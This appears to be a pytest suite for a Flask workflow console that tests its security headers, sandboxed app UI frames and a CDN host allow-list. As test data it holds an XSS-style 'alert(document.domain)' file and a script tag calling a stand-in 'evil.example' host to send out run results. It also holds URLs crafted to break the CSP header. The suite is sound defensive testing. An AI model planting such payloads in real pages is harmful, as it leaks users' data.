"""Headers that keep the console's origin to itself, through the Flask test client on a real
Redis: every answer is nosniff (JSON, errors, pages, static files, downloads), drive downloads are
same-origin resources, and an app's UI document is served only into a frame of the console."""

from __future__ import annotations

import logging
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from tests.api.conftest import Api, make_api
from tests.conftest import package

FRAMED = {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"}


def ui_package() -> dict[str, Any]:
    pkg = package({"adder": {"code": "v = 40", "outputs": ["v"]}}, {"f": {"app": "adder"}})
    pkg["apps"]["adder"].update(html='<h1>Adder</h1><button id="go">Add</button>', js="1;")
    return pkg


def answers(api: Api) -> dict[str, Any]:
    """One answer of every kind the app gives, by name."""
    alice = api.user("alice")
    put = api.call("PUT", "/files/notes/page.txt", alice, data=b"alert(document.domain)")
    assert put.status_code == 201, put.json
    return {
        "json": api.call("GET", "/auth/me", alice),
        "listing": api.call("GET", "/files", alice),
        "download": api.call("GET", "/files/notes/page.txt", alice),
        "static": api.http.get("/console/static/js/runs.js"),
        "page": api.http.get("/login"),
        "html 404": api.http.get("/no/such/page"),
        "json 404": api.call("GET", "/no/such/route"),
        "401": api.call("GET", "/auth/me"),
        "403": api.call("GET", "/users", alice),
        "405": api.call("DELETE", "/auth/me", alice),
        "health": api.http.get("/healthz"),
        "openapi": api.http.get("/api/v1/openapi.json"),
    }


def test_every_kind_of_answer_is_nosniff(api: Api) -> None:
    found = answers(api)
    # a drive file is bytes whatever its name: never a type a <script src> or a page would run
    assert found["download"].mimetype == "application/octet-stream"
    assert found["json 404"].status_code == 404 and found["html 404"].mimetype == "text/html"
    assert {name: r.status_code < 500 for name, r in found.items()} == dict.fromkeys(found, True)
    missing = [name for name, r in found.items() if r.headers.get("X-Content-Type-Options") != "nosniff"]  # fmt: skip
    assert missing == []


def test_a_no_content_answer_declares_no_type(api: Api) -> None:
    """A probe saw every 204 say Content-Type: text/html (Flask's default for an empty body)."""
    alice = api.user("alice")
    made = api.call("POST", "/tokens", alice, json={"name": "t", "scopes": ["read"]}).json
    gone = api.call("DELETE", f"/tokens/{made['id']}", alice)
    assert gone.status_code == 204 and "Content-Type" not in gone.headers, dict(gone.headers)
    assert gone.headers["X-Content-Type-Options"] == "nosniff"


def test_a_drive_download_is_a_same_origin_resource(api: Api) -> None:
    download = answers(api)["download"]
    assert download.status_code == 200 and download.data == b"alert(document.domain)"
    assert download.headers["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.fixture
def ui_run(cluster_api: Api) -> tuple[Api, dict[str, str], str]:
    """A run (queued: a worker's heartbeat, no worker) of an app with a UI; its owner's headers."""
    worker = cluster_api.services.settings.worker
    cluster_api.services.redis.hset(f"{worker.prefix}:workers", "w-test", str(time.time() * 1000))
    owner = cluster_api.user("uma")
    made = cluster_api.call("POST", "/runs", owner, json={"package": ui_package()})
    assert made.status_code in (200, 201, 202), made.json
    return cluster_api, owner, f"/runs/{made.json['run_id']}/flows/f/ui"


def test_the_ui_document_goes_into_a_frame_of_the_console(
    ui_run: tuple[Api, dict[str, str], str],
) -> None:
    api, owner, path = ui_run
    answer = api.http.get(path, headers={**owner, **FRAMED})
    assert answer.status_code == 200 and b'<button id="go"' in answer.data
    assert answer.headers["Content-Security-Policy"].startswith("sandbox allow-scripts;")


def test_only_plain_https_cdn_urls_reach_the_ui_document_and_its_policy(
    cluster_api: Api,
) -> None:
    """A URL with a trailing newline passed the old check (`$` matches before one), then broke
    the CSP header (a 500); one with another script's digits in its port passed too."""
    worker = cluster_api.services.settings.worker
    cluster_api.services.redis.hset(f"{worker.prefix}:workers", "w-test", str(time.time() * 1000))
    owner = cluster_api.user("owner")
    pkg = ui_package()
    good = "https://cdn.jsdelivr.net/npm/lib.js"
    bad = [
        f"{good}\n",
        "https://cdn.jsdelivr.net:\u0661\u0662/x.js",
        'https://a.org/"x',
        " " + good,
    ]
    pkg["apps"]["adder"]["cdn"] = {"js": [good, *bad], "css": bad}
    made = cluster_api.call("POST", "/runs", owner, json={"package": pkg})
    assert made.status_code in (200, 201, 202), made.json
    path = f"/runs/{made.json['run_id']}/flows/f/ui"
    answer = cluster_api.http.get(path, headers={**owner, **FRAMED})
    assert answer.status_code == 200, answer.data[:300]
    assert answer.data.count(b"<script src=") == 1 and good.encode() in answer.data
    assert b"<link rel" not in answer.data
    policy = answer.headers["Content-Security-Policy"]
    assert directives(policy)["script-src"] == ["'unsafe-inline'", "https://cdn.jsdelivr.net"]
    assert "a.org" not in policy and "cdn.jsdelivr.net:" not in policy


def ui_with_cdn(api: Api, cdn: dict[str, list[str]]) -> Any:
    """The UI document (as the console's frame asks for it) of a run of an app with `cdn`."""
    api.services.redis.hset(f"{api.services.settings.worker.prefix}:workers", "w", str(time.time() * 1000))  # fmt: skip
    owner = api.user("owner")
    pkg = ui_package()
    pkg["apps"]["adder"]["cdn"] = cdn
    made = api.call("POST", "/runs", owner, json={"package": pkg})
    assert made.status_code in (200, 201, 202), made.json
    answer = api.http.get(f"/runs/{made.json['run_id']}/flows/f/ui", headers={**owner, **FRAMED})
    assert answer.status_code == 200, answer.data[:300]
    return answer


def directives(policy: str) -> dict[str, list[str]]:
    parts = [d.split() for d in policy.split(";") if d.strip()]
    return {d[0]: d[1:] for d in parts}


def test_a_ui_loads_only_from_the_hosts_the_operator_allows(cluster_api: Api) -> None:
    """A probe had a shared workflow's UI send the viewer's run results to its author's host
    (`<script src="https://evil.example/x.js?data=...">`): the policy allowed any https host
    the app listed, and CSP matches no query. Only hosts of DIZEST_UI_CDN_HOSTS (by default
    three public CDNs) are loaded and named; the others are left out with a note."""
    kept = ["https://cdn.jsdelivr.net/npm/a@1/a.js", "https://UNPKG.com/b@2/b.css"]
    evil = ["https://evil.example/x.js?data=1", "https://cdn.jsdelivr.net.evil.example/y.css"]
    answer = ui_with_cdn(cluster_api, {"js": [kept[0], evil[0]], "css": [kept[1], evil[1]]})
    body = answer.get_data(as_text=True)
    assert '<script src="https://cdn.jsdelivr.net/npm/a@1/a.js">' in body
    assert '<link rel="stylesheet" href="https://UNPKG.com/b@2/b.css">' in body
    assert "evil.example" not in body.split('id="dizest-cdn-note"')[0]  # nothing loads it
    note = body.split('id="dizest-cdn-note"')[1].split("</div>")[0]
    assert "https://evil.example/x.js?data=1</code>: evil.example is not among" in note
    assert "https://cdn.jsdelivr.net.evil.example/y.css" in note
    policy = answer.headers["Content-Security-Policy"]
    found = directives(policy)
    assert found["script-src"] == ["'unsafe-inline'", "https://cdn.jsdelivr.net"]
    assert found["style-src"] == ["'unsafe-inline'", "https://unpkg.com"]
    both = ["https://cdn.jsdelivr.net", "https://unpkg.com"]
    assert found["img-src"] == ["data:", "blob:", *both] and found["font-src"] == ["data:", *both]
    assert found["connect-src"] == found["form-action"] == found["worker-src"] == ["'none'"]
    assert "evil" not in policy and "https:" not in policy.replace("https://", "")
    assert "*" not in policy


def test_the_allowed_hosts_are_the_operators_own(
    redis_url: str, session_prefix: str, tmp_path: Path
) -> None:
    hosts = ("*.assets.example.org", "cdn.example.net:8443")
    api = make_api(redis_url, session_prefix, tmp_path, None, {"ui_cdn_hosts": hosts})
    urls = [
        "https://a.assets.example.org/x.js",  # under the wildcard
        "https://assets.example.org/x.js",  # the wildcard's own name: not under it
        "https://cdn.example.net:8443/x.js",  # its port
        "https://cdn.example.net/x.js",  # another port (443)
        "https://cdn.jsdelivr.net/x.js",  # a default the operator replaced
    ]
    answer = ui_with_cdn(api, {"js": urls, "css": []})
    policy = directives(answer.headers["Content-Security-Policy"])
    assert policy["script-src"][1:] == [
        "https://a.assets.example.org",
        "https://cdn.example.net:8443",
    ]
    assert answer.get_data(as_text=True).count("is not among the hosts") == 3
    none = make_api(redis_url, session_prefix, tmp_path, None, {"ui_cdn_hosts": ()})
    answer = ui_with_cdn(none, {"js": urls[-1:], "css": []})
    assert directives(answer.headers["Content-Security-Policy"])["script-src"] == [
        "'unsafe-inline'"
    ]
    assert b"<script src=" not in answer.data and b"dizest-cdn-note" in answer.data


def test_a_refused_host_is_logged_once_without_its_query(
    cluster_api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    url = f"https://logged-{uuid.uuid4().hex[:8]}.example/x.js"
    with caplog.at_level(logging.INFO, logger="dizest.api.appui"):
        for _ in range(2):
            ui_with_cdn(cluster_api, {"js": [f"{url}?key=s3cret"], "css": []})
    lines = [r.getMessage() for r in caplog.records if url in r.getMessage()]
    assert len(lines) == 1 and "s3cret" not in lines[0] and "DIZEST_UI_CDN_HOSTS" in lines[0]


@pytest.mark.parametrize(
    "sent",
    [
        {},  # no fetch metadata: not a browser, or one over plain http
        {"Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "none"},  # a link pasted or bookmarked
        {"Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "cross-site"},  # a link in a mail
        {"Sec-Fetch-Dest": "document", "Sec-Fetch-Site": "same-origin"},  # a link on this origin
        {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "cross-site"},  # another site's frame
        {"Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "same-site"},  # a sibling subdomain's
        {"Sec-Fetch-Dest": "iframe"},
        {"Sec-Fetch-Site": "same-origin"},
        {"Sec-Fetch-Dest": "embed", "Sec-Fetch-Site": "same-origin"},
    ],
)
def test_the_ui_document_is_refused_anywhere_else_with_the_consoles_page(
    ui_run: tuple[Api, dict[str, str], str], sent: dict[str, str]
) -> None:
    api, owner, path = ui_run
    answer = api.http.get(path, headers={**owner, **sent})  # even to the run's owner
    assert answer.status_code == 403 and answer.mimetype == "text/html"
    body = answer.get_data(as_text=True)
    assert "Adder" not in body and 'id="go"' not in body and "dizest.api" not in body
    assert "Shown in its run only" in body and f'href="{path.rsplit("/flows", 1)[0]}"' in body
    # the console's own frame may show it (why, over plain http), no other page's
    assert "frame-ancestors 'self'" in answer.headers["Content-Security-Policy"]
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert "script-src 'self';" in answer.headers["Content-Security-Policy"]
    nobody = api.http.get(path, headers=sent)  # without a principal: auth's 401, as any route
    assert nobody.status_code == 401 and b"Adder" not in nobody.data


def test_over_plain_http_the_ui_goes_only_into_its_runs_page(
    ui_run: tuple[Api, dict[str, str], str],
) -> None:
    """Browsers send no fetch metadata to a plain-http origin (but localhost): there the UI is
    served only with the frame key its run's page gave this session. A probe's link planted in
    the run page (opened in a new tab, so with the run page's Referer) showed the app's page at
    the console's address when the Referer was all that was asked; and the key alone (which
    the UI's script reads in its own address) showed it when opened from a link."""
    from dizest_api.console.appui import frame_key

    api, owner, path = ui_run
    run_page = path.rsplit("/flows", 1)[0]
    credential = owner["Authorization"].split("_")[1]  # dz_<token id>_<secret>
    with api.app.app_context():
        key = frame_key(credential, run_page)
        other_run = frame_key(credential, "/runs/0123456789abcdef0123456789abcdef")
        other_user = frame_key("someone-else", run_page)
    ok = api.http.get(
        f"{path}?frame={key}", headers={**owner, "Referer": f"http://localhost{run_page}"}
    )
    assert ok.status_code == 200 and b'<button id="go"' in ok.data
    for query, referer in (
        ("", f"http://localhost{run_page}"),  # the planted link: the run page's Referer
        ("?frame=", f"http://localhost{run_page}"),
        (f"?frame={other_run}", f"http://localhost{run_page}"),  # another run's page's key
        (f"?frame={other_user}", f"http://localhost{run_page}"),  # another session's
        (f"?frame={key[:-1]}", ""),
        # the key the frame's own script read in its address, opened as a page of its own
        (f"?frame={key}", ""),
        (f"?frame={key}", f"http://evil.example{run_page}"),  # from a page of another site
        (f"?frame={key}", f"http://localhost{run_page}/flows/f/ui"),  # the frame itself
    ):
        refused = api.http.get(path + query, headers={**owner, "Referer": referer})
        assert refused.status_code == 403 and b"Adder" not in refused.data, (query, referer)


def test_over_plain_http_the_editor_frames_only_the_ui_of_its_workflows_runs(
    cluster_api: Api,
) -> None:
    """The editor shows the UI of its last run under a node (App UI mode): over plain http its
    frames carry the key of the editor's page and its address as their Referer, and the run
    must be one of that workflow's (the key of one editor frames no other workflow's runs)."""
    from dizest_api.console.appui import frame_key

    api = cluster_api
    worker = api.services.settings.worker
    api.services.redis.hset(f"{worker.prefix}:workers", "w-test", str(time.time() * 1000))
    owner = api.user("uma")
    made = [api.call("POST", "/workflows", owner, json={"title": t, "package": ui_package()}) for t in "ab"]  # fmt: skip
    wf, other_wf = (m.json["id"] for m in made)
    run = api.call("POST", "/runs", owner, json={"workflow_id": wf})
    other = api.call("POST", "/runs", owner, json={"workflow_id": other_wf})
    path, other_path = (f"/runs/{r.json['run_id']}/flows/f/ui" for r in (run, other))
    credential = owner["Authorization"].split("_")[1]
    editor, other_editor = f"/workflows/{wf}/edit", f"/workflows/{other_wf}/edit"
    with api.app.app_context():
        key, other_key = frame_key(credential, editor), frame_key(credential, other_editor)
        run_key = frame_key(credential, path.rsplit("/flows", 1)[0])

    def get(path: str, key: str, referer: str) -> Any:
        return api.http.get(f"{path}?frame={key}", headers={**owner, "Referer": referer})

    ok = get(path, key, f"http://localhost{editor}?version=1")
    assert ok.status_code == 200 and b'<button id="go"' in ok.data
    for asked, sent, referer in (
        (other_path, key, f"http://localhost{editor}"),  # a run of another workflow
        (other_path, other_key, f"http://localhost{editor}"),  # that editor's key, not its page
        (path, other_key, f"http://localhost{other_editor}"),  # another editor, its own key
        (path, run_key, f"http://localhost{editor}"),  # the run page's key
        (path, key, f"http://localhost{path.rsplit('/flows', 1)[0]}"),  # from the run page
        (path, key, ""),  # the key the frame's script read, opened as a page
        (path, key, f"http://evil.example{editor}"),
        (path, key, f"http://localhost/workflows/{wf}"),  # the workflow view frames no UI
    ):
        refused = get(asked, sent, referer)
        assert refused.status_code == 403 and b"Adder" not in refused.data, (asked, referer)


def test_a_refused_ui_answers_the_same_for_a_run_that_does_not_exist(cluster_api: Api) -> None:
    api = cluster_api
    alice = api.user("alice")
    path = "/runs/0123456789abcdef0123456789abcdef/flows/f/ui"
    refused = api.http.get(path, headers=alice)
    assert refused.status_code == 403 and refused.mimetype == "text/html"
    framed = api.http.get(path, headers={**alice, **FRAMED})
    assert framed.status_code == 404  # only a frame of the console learns it does not exist
    # as a page of that frame (a probe saw the JSON error shown as text inside the run page)
    assert framed.mimetype == "text/html" and b"not shown" in framed.data
    assert "frame-ancestors 'self'" in framed.headers["Content-Security-Policy"]
    ended = api.http.get(path, headers=FRAMED)  # the session ended meanwhile
    assert ended.status_code == 401 and ended.mimetype == "text/html"
    assert b'href="/login" target="_top"' in ended.data
